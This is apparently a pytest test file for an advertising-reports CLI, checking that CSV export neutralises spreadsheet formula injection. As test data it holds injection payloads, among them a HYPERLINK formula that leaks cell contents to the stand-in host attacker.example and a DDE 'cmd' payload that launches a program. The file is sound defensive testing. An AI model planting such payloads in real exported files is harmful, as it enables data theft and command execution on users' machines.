"""Files of CSV hold no formulas: names come from the networks, and spreadsheets run what begins with an equals sign."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from adsunify.answers import EntityInsights
from adsunify.cli.exporting import CsvWriter
from adsunify.cli.output import Column, make_table
from adsunify.cli.spreadsheets import to_csv_cell
from tests.client.test_reports import make_page, make_row

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-10 % today"])
def test_a_text_is_never_a_formula(text: str) -> None:
    assert to_csv_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "cell", ["", "-", "-5", "-0.50", "+12 %", "12.50", "Sale = 5", "'quoted", "2026-01-01", None, 7]
)
def test_other_cells_stay(cell: object) -> None:
    assert to_csv_cell(cell) == cell


def test_tables_and_reports_hold_no_formula(tmp_path: Path) -> None:
    table = make_table([Column("name"), Column("spend", number=True)], [(FORMULA, "-1,250.00")])
    assert list(csv.reader(io.StringIO(table.format_csv())))[1] == [f"'{FORMULA}", "-1250.00"]
    page = EntityInsights.model_validate(make_page([make_row() | {"entityName": FORMULA}]))
    path = tmp_path / "figures.csv"
    with path.open("wb") as file:
        CsvWriter(file).write_page(page)
    (row,) = csv.DictReader(io.StringIO(path.read_text(), newline=""))
    assert row["entity_name"] == f"'{FORMULA}"
